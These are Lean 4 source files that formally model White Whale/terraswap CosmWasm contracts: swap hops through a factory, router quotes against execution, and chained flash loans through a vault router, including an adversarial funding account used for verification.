/-- one `ExecuteSwapOperation`: factory `Pair` query, then the router's whole balance of the offer asset is
    swapped on that pair. `prev` = the asset the previous hop paid out (the trader's offer for hop 0); any
    other offer asset has a zero router balance: the bank refuses to send zero native coins (`err`), a
    zero cw20 `Send` goes through and the pair's `assert_max_spread` divides 0 by 0 (`panic`) unless the
    swap computation already failed. Returns the executing child. -/
def swapHop (cfg : Cfg) (s : St) (prev : Nat) (h : Nat × Nat) : Res Nat := do
  let e ← s.pairs.lookup cfg [h.1, h.2]
  let x ← assetOf cfg h.1
  match s.pairs.kids[e.child]? with
  | none => .err
  | some c =>
    if !c.assets.contains h.1 then .err
    else if h.1 != prev then
      if x.native then .err
      else if c.funded then .panic
      else match c.ptype with
        | none => .panic
        | some _ => .err
    else if c.funded then pure e.child
    else match c.ptype with
      | none => .panic                -- Decimal256::from_ratio(ask_pool, 0)
      | some _ => .err

def swapHops (cfg : Cfg) (s : St) : Nat → List (Nat × Nat) → Res (List Nat)
  | _, [] => .ok []
  | prev, h :: hs =>
    match swapHop cfg s prev h with
    | .ok c =>
      match swapHops cfg s h.2 hs with
      | .ok cs => .ok (c :: cs)
      | .err => .err
      | .panic => .panic
    | .err => .err
    | .panic => .panic

/-- `execute_swap_operations` with the trader offering the first hop's offer asset -/
def swapExec (cfg : Cfg) (s : St) (hops : List (Nat × Nat)) : Res (List Nat) :=
  match hops with
  | [] => .err
  | h :: _ => do
    let out ← outSet cfg [] hops
    guardErr (out.length == 1)      -- MultipleOutputToken
    swapHops cfg s h.1 hops

/-! ### operations -/

inductive Op where
  | addDec (a d : Nat)
  | createPair (a b : Nat) (ptype : Option Nat)
  | createTrio (a b c amp : Nat)
  | removePair (a b : Nat)
  | removeTrio (a b c : Nat)
  | fund (a b : Nat)
  | createVault (a : Nat)
  | removeVault (a : Nat)
  | createInc (a : Nat)
  | addRoutes (rs : List Route)
  | removeRoutes (ks : List (Nat × Nat))
  | swap (hops : List (Nat × Nat))
  | swapRoute (o a : Nat)
deriving Repr, DecidableEq

/-- one transaction; the second component lists the pair children that executed a swap -/
def step (cfg : Cfg) (s : St) : Op → Res (St × List Nat)
  | .addDec a d => do
    let x ← assetOf cfg a
    pure ({ s with decs := regInsert x.ref d s.decs }, [])
  | .createPair a b pt => do
    let p ← s.pairs.create cfg (decsOf cfg s) [a, b] pt (pairInstOk pt)
    pure ({ s with pairs := p }, [])
  | .createTrio a b c amp => do
    let p ← s.trios.create cfg (decsOf cfg s) [a, b, c] none (trioInstOk amp)
    pure ({ s with trios := p }, [])
  | .removePair a b => do
    let p ← s.pairs.remove cfg [a, b]
    pure ({ s with pairs := p }, [])
  | .removeTrio a b c => do
    let p ← s.trios.remove cfg [a, b, c]
    pure ({ s with trios := p }, [])
  | .fund a b => do
    let p ← s.pairs.fund cfg [a, b]
    pure ({ s with pairs := p }, [])
  | .createVault a => do
    let v ← s.vaults.create cfg a
    pure ({ s with vaults := v }, [])
  | .removeVault a => do
    let v ← s.vaults.remove cfg a
    pure ({ s with vaults := v }, [])
  | .createInc a => do
    let v ← s.incs.create cfg a
    pure ({ s with incs := v }, [])
  | .addRoutes rs => do
    let s' ← foldRes (addRoute cfg) s rs
    pure (s', [])
  | .removeRoutes ks => do
    let s' ← foldRes (removeRoute cfg) s ks
    pure (s', [])
  | .swap hops => do
    let out ← swapExec cfg s hops
    pure (s, out)
  | .swapRoute o a => do
    let lo ← labelOf cfg o
    let la ← labelOf cfg a
    match regLookup (routeKey lo la) s.routes with
    | none => .err
    | some e => do
      let out ← swapExec cfg s e.hops
      pure (s, out)

/-- a failed transaction leaves the state untouched -/
def apply (cfg : Cfg) (s : St) (op : Op) : St :=
  match step cfg s op with
  | .ok (s', _) => s'
  | _ => s

/-- the state after a history (failed operations skipped) -/
def reach (cfg : Cfg) : St → List Op → St
  | s, [] => s
  | s, op :: ops => reach cfg (apply cfg s op) ops

/-! ### listing queries -/

def pairsPage (cfg : Cfg) (s : St) (cursor : Option (List Nat)) (limit : Option Nat) : Res (List (Bytes × PoolEntry)) :=
  let lim := pageLimit Gen.POOL_FACTORY_DEFAULT_LIMIT Gen.POOL_FACTORY_MAX_LIMIT limit
  match cursor with
  | none => .ok (regPage s.pairs.reg none lim)
  | some c => do let k ← keyOf cfg c; pure (regPage s.pairs.reg (some k) lim)

def triosPage (cfg : Cfg) (s : St) (cursor : Option (List Nat)) (limit : Option Nat) : Res (List (Bytes × PoolEntry)) :=
  let lim := pageLimit Gen.POOL_FACTORY_DEFAULT_LIMIT Gen.POOL_FACTORY_MAX_LIMIT limit
  match cursor with
  | none => .ok (regPage s.trios.reg none lim)
  | some c => do let k ← keyOf cfg c; pure (regPage s.trios.reg (some k) lim)

/-- the vault factory takes the cursor as raw bytes -/
def vaultsPage (s : St) (cursor : Option Bytes) (limit : Option Nat) : List (Bytes × VaultEntry) :=
  regPage s.vaults.reg cursor (pageLimit Gen.VAULT_FACTORY_DEFAULT_LIMIT Gen.VAULT_FACTORY_MAX_LIMIT limit)

def incsPage (cfg : Cfg) (s : St) (cursor : Option Nat) (limit : Option Nat) : Res (List (Bytes × Nat)) :=
  let lim := pageLimit Gen.INCENTIVE_FACTORY_DEFAULT_LIMIT Gen.INCENTIVE_FACTORY_MAX_LIMIT limit
  match cursor with
  | none => .ok (regPage s.incs.reg none lim)
  | some c => do let a ← assetOf cfg c; pure (regPage s.incs.reg (some a.raw) lim)

end WW.Factory
