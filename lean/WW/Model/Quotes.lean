/-
  C14 (router + constant-product pair part): quotes vs execution.

  Replicas of
    terraswap_pair/src/queries.rs   `query_simulation`
    terraswap_pair/src/commands.rs  `swap`  (+ `collect_protocol_fees`, used for histories only)
    white-whale-std pool_network/swap.rs `assert_max_spread` (arm without belief price)
    terraswap_router/src/contract.rs `simulate_swap_operations`, `execute_swap_operations`,
                                     `assert_operations`
    terraswap_router/src/operations.rs `execute_swap_operation`
  The swap computation itself is `cpSwap` (WW/Model/CpSwap.lean, verified for C02).

  State: pools as a finite map pairId → (balances, pending protocol fees, fee ledgers); fees and
  asset ids of every pair are static configuration (`Cfg`); the router's own balance of every
  asset is part of the state, because `execute_swap_operation` offers *the router's whole current
  balance* of the hop's offer asset (not the previous hop's proceeds).

  Asset kinds (native | cw20): in both cases the offer is on the pair's balance before the handler
  reads it (native funds are delivered with the message, a cw20 `Send` transfers before it calls
  the hook), proceeds are a plain transfer and the burn reduces the pair's balance, so the kind
  enters in one place only: the bank module rejects a transfer of zero coins (`Err`), cw20-base
  1.1 accepts a zero `Send`/`Transfer` (the zero swap then dies in `assert_max_spread`, which
  panics on `from_ratio(0, 0)`).  `Cfg.native` records the kind of every asset id.
-/
import WW.Cw.Arith
import WW.Gen.Constants
import WW.Model.CpSwap
namespace WW.Quotes
open WW

/-- static part of a pair: its two asset ids (in `asset_infos` order) and its `PoolFee` -/
structure PairCfg where
  a0 : Nat
  a1 : Nat
  fees : Fees
deriving Repr

/-- the factory's registry (pairId = position) and the kind of every asset id -/
structure Cfg where
  pairs : List PairCfg
  native : Nat → Bool

/-- dynamic part of a pair, indexed by side (`false` = asset 0, `true` = asset 1):
    token balance of the pair contract, `COLLECTED_PROTOCOL_FEES`,
    `ALL_TIME_COLLECTED_PROTOCOL_FEES`, `ALL_TIME_BURNED_FEES` -/
structure PoolSt where
  bal : Bool → Nat
  pend : Bool → Nat
  allTime : Bool → Nat
  burned : Bool → Nat

structure St where
  /-- pairId → pool state -/
  pool : Nat → PoolSt
  /-- the router contract's balance of every asset id -/
  router : Nat → Nat

/-- point update of a map -/
def set {κ : Type} [DecidableEq κ] {α : Type} (f : κ → α) (k : κ) (v : α) : κ → α :=
  fun j => if j = k then v else f j

/-- which side of the pair an offered asset is (`pools[0]` is tried first, as in the code);
    `none` = `AssetMismatch` -/
def sideOf (pc : PairCfg) (asset : Nat) : Option Bool :=
  if asset = pc.a0 then some false else if asset = pc.a1 then some true else none

def assetOf (pc : PairCfg) (k : Bool) : Nat := if k then pc.a1 else pc.a0

/-- the pools as every query reports them: balance − pending protocol fees (`checked_sub`) -/
def queryPool (ps : PoolSt) (k : Bool) : Res Nat := csub (ps.bal k) (ps.pend k)

/-- `helpers::compute_swap` of a pair with its static parameters (pair type, fees, amp, decimals)
    applied: offer pool → ask pool → offer amount → computation. The handlers below are the same
    code for every pair type; only this function differs. -/
abbrev Compute := Nat → Nat → Nat → Res SwapComp

/-- `query_simulation` on one pool (any pair type): offer side `k`, offer amount `amt` -/
def simCoreG (compute : Compute) (ps : PoolSt) (k : Bool) (amt : Nat) : Res SwapComp := do
  let pO ← queryPool ps k
  let pA ← queryPool ps (!k)
  compute pO pA amt

/-- the constant-product pair's computation -/
def cpCompute (fees : Fees) : Compute := fun op ap off => cpSwap op ap off fees

/-- `query_simulation` of a constant-product pair -/
def simCore (pc : PairCfg) (ps : PoolSt) (k : Bool) (amt : Nat) : Res SwapComp :=
  simCoreG (cpCompute pc.fees) ps k amt

/-- the `Simulation { offer_asset }` query of pair `i` -/
def simulate (cfg : Cfg) (s : St) (i asset amt : Nat) : Res SwapComp :=
  match cfg.pairs[i]? with
  | none => .err
  | some pc =>
    match sideOf pc asset with
    | none => .err
    | some k => simCore pc (s.pool i) k amt

/-- effective limit of `assert_max_spread`: `max_spread.unwrap_or(DEFAULT).min(MAX_ALLOWED)` -/
def maxSpreadOf (ms : Option Nat) : Nat :=
  min (ms.getD Gen.SWAP_DEFAULT_SLIPPAGE_ATOMICS) Gen.SWAP_MAX_ALLOWED_SLIPPAGE_ATOMICS

/-- `assert_max_spread(None, max_spread, _, return + fees, spread)`:
    `Decimal256::from_ratio(spread, return + spread) > max_spread` ⇒ `Err`;
    the `Uint128` sum and `from_ratio` with a zero denominator panic. -/
def assertMaxSpread (ms : Option Nat) (retPlusFees spread : Nat) : Res Unit := do
  let tot ← padd U128MAX retPlusFees spread
  let ratio ← dec256FromRatio spread tot
  guardErr (ratio ≤ maxSpreadOf ms)

/-- `commands::swap` on one pool (any pair type) together with the messages it emits: the offer `amt`
    has landed on the pair's balance; pools are balance − pending − (offer, for the offer pool);
    proceeds and burn fee leave the pair, the protocol fee stays and is added to the ledgers.
    Returns the new pool state and the `SwapComputation` (whose `ret` is what the receiver is sent). -/
def swapCoreG (compute : Compute) (ps : PoolSt) (k : Bool) (amt : Nat) (ms : Option Nat) :
    Res (PoolSt × SwapComp) := do
  let balO ← cadd U128MAX (ps.bal k) amt
  let pO ← csub balO (ps.pend k)
  let pO ← csub pO amt
  let pA ← csub (ps.bal (!k)) (ps.pend (!k))
  let c ← compute pO pA amt
  let f1 ← cadd U128MAX c.swapFee c.protFee
  let fees ← cadd U128MAX f1 c.burnFee
  let rf ← cadd U128MAX c.ret fees
  assertMaxSpread ms rf c.spread
  -- store_fee uses unchecked `+`
  let burned' ← padd U128MAX (ps.burned (!k)) c.burnFee
  let pend' ← padd U128MAX (ps.pend (!k)) c.protFee
  let all' ← padd U128MAX (ps.allTime (!k)) c.protFee
  -- messages: proceeds to the receiver, burn of the burn fee
  let balA ← csub (ps.bal (!k)) c.ret
  let balA ← csub balA c.burnFee
  pure ({ bal := set (set ps.bal k balO) (!k) balA
          pend := set ps.pend (!k) pend'
          allTime := set ps.allTime (!k) all'
          burned := set ps.burned (!k) burned' }, c)

/-- `commands::swap` of a constant-product pair -/
def swapCore (pc : PairCfg) (ps : PoolSt) (k : Bool) (amt : Nat) (ms : Option Nat) :
    Res (PoolSt × SwapComp) :=
  swapCoreG (cpCompute pc.fees) ps k amt ms

/-- the payer's balance after paying `amt`: tracked (`checked_sub`) for the router only -/
def payFrom (fromRouter : Bool) (bal amt : Nat) : Res Nat :=
  if fromRouter then csub bal amt else .ok bal

/-- the payee's balance after receiving `amt`: tracked (overflow-checked) for the router only -/
def payTo (toRouter : Bool) (bal amt : Nat) : Res Nat :=
  if toRouter then cadd U128MAX bal amt else .ok bal

/-- A swap of `amt` of `asset` executed on pair `i`.  `fromRouter`: the router pays (a hop of
    `ExecuteSwapOperations`), otherwise an external account whose balance is not tracked.
    `toRouter`: proceeds go to the router (`to: None` on a non-final hop), otherwise to an external
    receiver.  Returns the new state and the swap computation. -/
def executeSwap (cfg : Cfg) (s : St) (i asset amt : Nat) (ms : Option Nat)
    (fromRouter toRouter : Bool) : Res (St × SwapComp) :=
  match cfg.pairs[i]? with
  | none => .err
  | some pc =>
    match sideOf pc asset with
    | none => .err
    | some k => do
      guardErr (!(amt == 0 && cfg.native asset))
      let rO ← payFrom fromRouter (s.router asset) amt
      let r1 := set s.router asset rO
      let pc' ← swapCore pc (s.pool i) k amt ms
      let rA ← payTo toRouter (r1 (assetOf pc (!k))) pc'.2.ret
      pure ({ pool := set s.pool i pc'.1, router := set r1 (assetOf pc (!k)) rA }, pc'.2)

/-! ### router -/

/-- `SwapOperation::TerraSwap { offer_asset_info, ask_asset_info }` -/
structure Hop where
  offer : Nat
  ask : Nat
deriving Repr, DecidableEq

def pairMatches (pc : PairCfg) (x y : Nat) : Bool :=
  (pc.a0 == x && pc.a1 == y) || (pc.a0 == y && pc.a1 == x)

/-- the factory's `Pair { asset_infos }` query: the pair registered for the unordered asset pair -/
def resolve (cfg : Cfg) (h : Hop) : Option Nat :=
  cfg.pairs.findIdx? (fun pc => pairMatches pc h.offer h.ask)

/-- the loop of `simulate_swap_operations`: every hop is a `Simulation` query on the *current*
    (= initial, a query changes nothing) state, fed with the previous hop's `return_amount` -/
def simulateOps (cfg : Cfg) (s : St) : List Hop → Nat → Res Nat
  | [], amt => .ok amt
  | h :: rest, amt =>
    match resolve cfg h with
    | none => .err
    | some i =>
      match simulate cfg s i h.offer amt with
      | .ok c => simulateOps cfg s rest c.ret
      | .err => .err
      | .panic => .panic

/-- `SimulateSwapOperations { offer_amount, operations }` -/
def simulateSwapOperations (cfg : Cfg) (s : St) (ops : List Hop) (amt : Nat) : Res Nat :=
  if ops.isEmpty then .err else simulateOps cfg s ops amt

/-- `assert_operations`: the set of ask assets after removing every later-offered one has one element -/
def assertOps (ops : List Hop) : Bool :=
  let m := ops.foldl (fun (m : List Nat) h =>
    let m1 := m.filter (fun a => a != h.offer)
    if m1.contains h.ask then m1 else h.ask :: m1) []
  m.length == 1

/-- the `ExecuteSwapOperation` messages in order: each hop offers the router's *current balance*
    of its offer asset; only the last hop pays the external receiver. The third argument carries
    the amount sent to the receiver so far. -/
def execHops (cfg : Cfg) (ms : Option Nat) : St → List Hop → Nat → Res (St × Nat)
  | s, [], recv => .ok (s, recv)
  | s, h :: rest, _ =>
    match resolve cfg h with
    | none => .err
    | some i =>
      match executeSwap cfg s i h.offer (s.router h.offer) ms true (!rest.isEmpty) with
      | .ok sc => execHops cfg ms sc.1 rest sc.2.ret
      | .err => .err
      | .panic => .panic

/-- `ExecuteSwapOperations { operations, minimum_receive: None, to: fresh receiver, max_spread }`
    with `offer` of the first hop's offer asset attached (native funds / cw20 `Send`).
    Returns the final state and the amount the receiver got. -/
def executeSwapOperations (cfg : Cfg) (s : St) (ops : List Hop) (offer : Nat) (ms : Option Nat) :
    Res (St × Nat) :=
  match ops with
  | [] => .err
  | h :: _ =>
    if !assertOps ops then .err
    else if offer = 0 && cfg.native h.offer then .err
    else
      match cadd U128MAX (s.router h.offer) offer with
      | .ok r0 => execHops cfg ms { s with router := set s.router h.offer r0 } ops offer
      | .err => .err
      | .panic => .panic

/-- the resolved pair ids of a route (unregistered hops dropped) -/
def pairIds (cfg : Cfg) (ops : List Hop) : List Nat := ops.filterMap (resolve cfg)

/-- no pair is visited twice -/
def DistinctPairs (cfg : Cfg) (ops : List Hop) : Prop := (pairIds cfg ops).Nodup

instance (cfg : Cfg) (ops : List Hop) : Decidable (DistinctPairs cfg ops) := by
  unfold DistinctPairs; infer_instance

/-- the router holds none of the assets the route offers (entry asset and intermediates) -/
def RouterHoldsNone (s : St) (ops : List Hop) : Prop := ∀ h ∈ ops, s.router h.offer = 0

instance (s : St) (ops : List Hop) : Decidable (RouterHoldsNone s ops) := by
  unfold RouterHoldsNone; infer_instance

/-- amount received, dropping the state (so that results are comparable by `decide`) -/
def recvOf : Res (St × Nat) → Res Nat
  | .ok x => .ok x.2
  | .err => .err
  | .panic => .panic

def compOf : Res (St × SwapComp) → Res SwapComp
  | .ok x => .ok x.2
  | .err => .err
  | .panic => .panic

/-! ### history-building operations (not part of the property; used by the correspondence) -/

/-- plain transfer of `amt` of `asset` to pair `i` (a donation) -/
def donate (cfg : Cfg) (s : St) (i asset amt : Nat) : Res St :=
  match cfg.pairs[i]? with
  | none => .err
  | some pc =>
    if amt = 0 then (if cfg.native asset then .err else .ok s)
    else match sideOf pc asset with
      | none => .ok s     -- an asset the pair does not trade: lands on an untracked balance
      | some k =>
        match cadd U128MAX ((s.pool i).bal k) amt with
        | .ok b => .ok { s with pool := set s.pool i { s.pool i with bal := set (s.pool i).bal k b } }
        | .err => .err
        | .panic => .panic

/-- the factory owner removes pair `i` and creates a NEW pair for the same two assets (same fees),
    seeded with `b0`, `b1`: registry entry `i` now names a fresh pool; the old contract keeps whatever it
    held but no route resolves to it any more -/
def replacePair (cfg : Cfg) (s : St) (i b0 b1 : Nat) : Res St :=
  match cfg.pairs[i]? with
  | none => .err
  | some _ =>
    let fresh : PoolSt :=
      { bal := fun k => if k then b1 else b0, pend := fun _ => 0, allTime := fun _ => 0, burned := fun _ => 0 }
    .ok { s with pool := set s.pool i fresh }

/-- plain transfer of `amt` of `asset` to the router -/
def fund (cfg : Cfg) (s : St) (asset amt : Nat) : Res St :=
  if amt = 0 then (if cfg.native asset then .err else .ok s)
  else match cadd U128MAX (s.router asset) amt with
    | .ok b => .ok { s with router := set s.router asset b }
    | .err => .err
    | .panic => .panic

/-- one ledger entry of `collect_protocol_fees`: sent and reset iff above the threshold -/
def collectSide (ps : PoolSt) (k : Bool) : Res PoolSt :=
  if ps.pend k > Gen.PAIR_MINIMUM_COLLECTABLE_BALANCE then
    match csub (ps.bal k) (ps.pend k) with
    | .ok b => .ok { ps with bal := set ps.bal k b, pend := set ps.pend k 0 }
    | .err => .err
    | .panic => .panic
  else .ok ps

/-- `CollectProtocolFees {}` on pair `i` -/
def collect (cfg : Cfg) (s : St) (i : Nat) : Res St :=
  match cfg.pairs[i]? with
  | none => .err
  | some _ =>
    match collectSide (s.pool i) false with
    | .ok p1 =>
      match collectSide p1 true with
      | .ok p2 => .ok { s with pool := set s.pool i p2 }
      | .err => .err
      | .panic => .panic
    | .err => .err
    | .panic => .panic

end WW.Quotes
