/-
  Executable model of the vault router (contracts/liquidity_hub/vault-network/vault_router) in front
  of SEVERAL vaults of one vault factory: the CHAINED flash loan

      vault(j1).FlashLoan → router.NextLoan{to_loan = [j2,…]} → vault(j2).FlashLoan → router.NextLoan → …
        → vault(jk).FlashLoan → router.NextLoan{to_loan = []} = payload messages, then
        router.CompleteLoan{initiator, loaned_assets} → after_trade(jk) → … → after_trade(j1)

  What the real code does with it:
  * `FlashLoan{assets, msgs}` sent to the router refuses more than one asset
    (`NestedFlashLoansDisabled`), does nothing at all for zero assets and starts the chain over one
    vault for one asset (`flash_loan.rs`).
  * the chained branch of `next_loan.rs` (`to_loan` non-empty) is therefore reached only when the
    ROUTER ITSELF is made to borrow with a hand-built `NextLoan` message: a payload message
    `vault(j1).FlashLoan{n1, msg = NextLoan{initiator, source_vault = vault(j1), to_loan = rest,
    payload, loaned_assets = all}}` executed as the router (`RAct.chain`). This is exactly the message
    `flash_loan.rs` would build for several assets; every vault of the chain calls `NextLoan` back, the
    router checks sender = source vault = the factory's vault for the asset, and forwards the SAME
    initiator, payload and `loaned_assets` down the chain.
  * `CompleteLoan` (sender must be the router) first QUERIES, for every entry of `loaned_assets`, the
    vault's `GetPaybackAmount(amount)` and the router's whole balance of the asset (`NegativeProfit` if
    lower), and then sends, entry by entry in `loaned_assets` order, the payback to the vault and — if
    non-zero — the whole remainder to the initiator.

  Asset j is the asset of vault j (`kind j`: 0 native, 1 cw20). Accounts (per asset):
  0,1,2 users · 3 the funding contract (programmable adversary) · 4 the fee collector · 5 the router ·
  6 + k vault k. A failed operation returns `none`: CosmWasm reverts everything. Zero-amount native
  transfers fail, zero-amount cw20 transfers succeed (as in WW/Model/Vault.lean).
  Asset index `nv` is a native denom that has no vault (`kind nv` must be 0): nothing but coins ATTACHED
  to a message (`Op.attach`) ever moves it.
-/
import WW.Cw.Arith
import WW.Gen.Constants
import WW.Model.Vault
namespace WW.VaultChain
open WW
open WW.Vault (VFees fee)

/-- what never changes: the vaults registered with the factory, their asset kinds and fee triples -/
structure Cfg where
  nv : Nat
  kind : Nat → Nat
  fees : Nat → VFees

structure St where
  pend : Nat → Nat          -- COLLECTED_PROTOCOL_FEES of vault j
  allTime : Nat → Nat       -- ALL_TIME_COLLECTED_PROTOCOL_FEES
  burned : Nat → Nat        -- ALL_TIME_BURNED_FEES
  ctr : Nat → Nat           -- LOAN_COUNTER
  bal : Nat → Nat → Nat     -- bal j a: what account a holds of asset j (a = 6 + j: vault j's own funds)

def upd (f : Nat → Nat) (i v : Nat) : Nat → Nat := fun x => if x = i then v else f x
def upd2 (f : Nat → Nat → Nat) (j a v : Nat) : Nat → Nat → Nat :=
  fun x => if x = j then upd (f j) a v else f x

/-- `GetPaybackAmount` of vault j -/
def payback (c : Cfg) (j amount : Nat) : Nat :=
  amount + fee (c.fees j).prot amount + fee (c.fees j).flash amount + fee (c.fees j).burn amount

/-- plain transfer of `n` of asset `j` from account `src` to account `dst` (bank send / cw20 transfer) -/
def move (c : Cfg) (s : St) (j src dst n : Nat) : Option St :=
  if (n = 0 ∧ c.kind j = 0) ∨ s.bal j src < n then none
  else
    let b1 := upd2 s.bal j src (s.bal j src - n)
    some { s with bal := upd2 b1 j dst (b1 j dst + n) }

/-- vault j's `flash_loan` towards the router: the vault must exist, no loan in flight
    (`LOAN_COUNTER != 0` is refused), counter + 1, the funds leave for the router (account 5) -/
def lend (c : Cfg) (s : St) (j n : Nat) : Option St :=
  if j ≥ c.nv then none else
  if s.ctr j ≠ 0 then none else
  move c { s with ctr := upd s.ctr j 1 } j (6 + j) 5 n

/-- vault j's `after_trade` with the balance recorded when the loan was taken -/
def afterTrade (c : Cfg) (s : St) (j old n : Nat) : Option St :=
  if old + fee (c.fees j).prot n + fee (c.fees j).flash n + fee (c.fees j).burn n > U128MAX then none else
  if s.bal j (6 + j) < old + fee (c.fees j).prot n + fee (c.fees j).flash n + fee (c.fees j).burn n then none else  -- NegativeProfit
  if s.pend j + fee (c.fees j).prot n > U128MAX then none else
  if s.allTime j + fee (c.fees j).prot n > U128MAX then none else
  if s.burned j + fee (c.fees j).burn n > U128MAX then none else
  some { s with
    pend := upd s.pend j (s.pend j + fee (c.fees j).prot n)
    allTime := upd s.allTime j (s.allTime j + fee (c.fees j).prot n)
    burned := upd s.burned j (s.burned j + fee (c.fees j).burn n)
    ctr := upd s.ctr j (s.ctr j - 1)
    bal := upd2 s.bal j (6 + j) (s.bal j (6 + j) - fee (c.fees j).burn n) }

/-- `CompleteLoan`, the query phase for one entry (vault/asset j, loan n): (asset, payback, profit) -/
def quote (c : Cfg) (s : St) (e : Nat × Nat) : Option (Nat × Nat × Nat) :=
  if e.1 ≥ c.nv then none else
  if payback c e.1 e.2 > U128MAX then none else
  if s.bal e.1 5 < payback c e.1 e.2 then none else        -- NegativeProfit
  some (e.1, payback c e.1 e.2, s.bal e.1 5 - payback c e.1 e.2)

/-- all quotes are taken in the state in which `CompleteLoan` starts -/
def quotes (c : Cfg) (s : St) : List (Nat × Nat) → Option (List (Nat × Nat × Nat))
  | [] => some []
  | e :: es =>
    match quote c s e with
    | none => none
    | some q =>
      match quotes c s es with
      | none => none
      | some qs => some (q :: qs)

/-- `CompleteLoan`, the two messages of one entry: the payback to the vault, then the non-zero
    remainder to the initiator -/
def settle1 (c : Cfg) (s : St) (initiator : Nat) (q : Nat × Nat × Nat) : Option St :=
  match move c s q.1 5 (6 + q.1) q.2.1 with
  | none => none
  | some s1 => if q.2.2 = 0 then some s1 else move c s1 q.1 5 initiator q.2.2

/-- `CompleteLoan`, the message phase: entry by entry in `loaned_assets` order -/
def settle (c : Cfg) (s : St) (initiator : Nat) : List (Nat × Nat × Nat) → Option St
  | [] => some s
  | q :: qs =>
    match settle1 c s initiator q with
    | none => none
    | some s2 => settle c s2 initiator qs

def completeLoan (c : Cfg) (s : St) (initiator : Nat) (loaned : List (Nat × Nat)) : Option St :=
  match quotes c s loaned with
  | none => none
  | some qs => settle c s initiator qs

/-- the chain of `NextLoan`s: `rest` = the vaults still to borrow from (`to_loan`), `all` = `loaned_assets`;
    `run` = the payload (whatever it is). The initiator is forwarded unchanged. -/
def chainGo (c : Cfg) (run : St → Option St) (initiator : Nat) (all : List (Nat × Nat)) :
    St → List (Nat × Nat) → Option St
  | s, [] =>
    match run s with
    | none => none
    | some s2 => completeLoan c s2 initiator all
  | s, e :: rest =>
    match lend c s e.1 e.2 with
    | none => none
    | some s1 =>
      match chainGo c run initiator all s1 rest with
      | none => none
      | some s2 => afterTrade c s2 e.1 (s.bal e.1 (6 + e.1)) e.2

/-- the lending phase alone: the state in which the payload starts, when every vault of the chain has
    lent (in `to_loan` order) -/
def lends (c : Cfg) : St → List (Nat × Nat) → Option St
  | s, [] => some s
  | s, e :: rest =>
    match lend c s e.1 e.2 with
    | none => none
    | some s1 => lends c s1 rest

/-- what a payload can do: messages executed in order AS THE ROUTER -/
inductive RAct where
  | fund (j n : Nat)              -- the funding contract (account 3) is told to send n of asset j to the router
  | out (j dst n : Nat)           -- the router sends n of asset j to account `dst` (users, contract, collector, any vault)
  | fail                          -- a message that errors
  | complete (initiator : Nat) (loaned : List (Nat × Nat))  -- the router calls its own CompleteLoan (sender = router: allowed)
  | chain (initiator : Nat) (loans : List (Nat × Nat)) (payload : List RAct)
      -- the router borrows from the first vault with the hand-built NextLoan chain over `loans`
deriving Repr

mutual
def rrun (c : Cfg) : St → RAct → Option St
  | s, .fund j n => if j ≥ c.nv then none else move c s j 3 5 n
  | s, .out j dst n => if j ≥ c.nv ∨ dst = 5 ∨ dst ≥ 6 + c.nv then none else move c s j 5 dst n
  | _, .fail => none
  | s, .complete initiator loaned => if initiator ≥ 6 + c.nv then none else completeLoan c s initiator loaned
  | s, .chain initiator loans payload =>
    if initiator ≥ 6 + c.nv then none else
    match loans with
    | [] => none
    | _ :: _ => chainGo c (fun t => rruns c t payload) initiator loans s loans
/-- the payload's messages, in order; the first failure reverts everything -/
def rruns (c : Cfg) : St → List RAct → Option St
  | s, [] => some s
  | s, a :: as =>
    match rrun c s a with
    | none => none
    | some s' => rruns c s' as
end

/-- top-level operations (each is one transaction; senders are accounts 0..3) -/
inductive Op where
  | rloan (who : Nat) (assets : List (Nat × Nat)) (payload : List RAct)  -- router FlashLoan{assets, msgs}
  | rfund (who j n : Nat)           -- plain transfer of asset j to the router
  | collect (j : Nat)               -- vault j CollectProtocolFees
  | xnext (who initiator : Nat) (loans : List (Nat × Nat)) (payload : List RAct)  -- router NextLoan sent directly
  | xcomplete (who initiator : Nat) (loaned : List (Nat × Nat))                   -- router CompleteLoan sent directly
  /-- the message `op` sent with `n` native coins ATTACHED that it does not ask for, paid by its sender
      `who` (0..3): coins of asset `sel` (`sel < nv`: the native denom of vault `sel`'s asset — nobody
      holds such a coin when that asset is a cw20; `sel = nv`: a denom no vault knows). The bank moves
      them to the RECEIVING contract before the handler runs and the whole transaction — the coins
      included — reverts when anything fails. No handler of the router looks at `info.funds`
      (`flash_loan.rs` sends `funds: vec![]` on to the vault), nor does a vault's `CollectProtocolFees`:
        * router messages: the coins are the router's. Of a BORROWED asset they are part of the balance
          `CompleteLoan` reads and leave with the remaining proceeds to the initiator; of any other asset
          they stay with the router (and go to whoever next borrows that asset through it);
        * vault `j`'s `CollectProtocolFees`: a donation to vault `j` (account `6 + j`) of asset `sel`;
        * an empty coin (`n = 0`) is refused by the bank. -/
  | attach (who sel n : Nat) (op : Op)
deriving Repr

/-- the account of the contract an operation's message is sent to (5 the router, `6 + j` vault `j`);
    `none`: a plain transfer, not an execute message -/
def Op.recv : Op → Option Nat
  | .rloan _ _ _ => some 5
  | .rfund _ _ _ => none
  | .collect j => some (6 + j)
  | .xnext _ _ _ _ => some 5
  | .xcomplete _ _ _ => some 5
  | .attach _ _ _ op => op.recv

/-- the message itself, without the coins attached to it -/
def Op.core : Op → Op
  | .attach _ _ _ op => op.core
  | op => op

/-- `n` stray coins of asset `sel` paid by `who` arrive at the receiving contract `dst` -/
def arrive (c : Cfg) (s : St) (who sel n dst : Nat) : Option St :=
  if who ≥ 4 ∨ n = 0 ∨ sel > c.nv ∨ dst ≥ 6 + c.nv then none else
  if c.kind sel ≠ 0 then none else        -- a cw20 asset has no coin (the unknown denom `nv` is native)
  move c s sel who dst n

def step (c : Cfg) : St → Op → Option St
  | s, .rloan who assets payload =>
    if who ≥ 4 then none else
    match assets with
    | [] => some s                                    -- no message at all: the payload is NOT run
    | [e] => chainGo c (fun t => rruns c t payload) who [e] s [e]
    | _ :: _ :: _ => none                             -- NestedFlashLoansDisabled
  | s, .rfund who j n => if who ≥ 4 ∨ j ≥ c.nv then none else move c s j who 5 n
  | s, .collect j =>
    if j ≥ c.nv then none else
    if s.pend j = 0 then some s else
    match move c s j (6 + j) 4 (s.pend j) with
    | none => none
    | some s1 => some { s1 with pend := upd s1.pend j 0 }
  -- NextLoan: the sender must be the factory's vault for the named asset; accounts 0..3 never are
  | _, .xnext _ _ _ _ => none
  -- CompleteLoan: the sender must be the router itself
  | _, .xcomplete _ _ _ => none
  -- stray coins: they arrive first, then the message runs; all or nothing
  | s, .attach who sel n op =>
    match op.recv with
    | none => none
    | some dst =>
      match arrive c s who sel n dst with
      | none => none
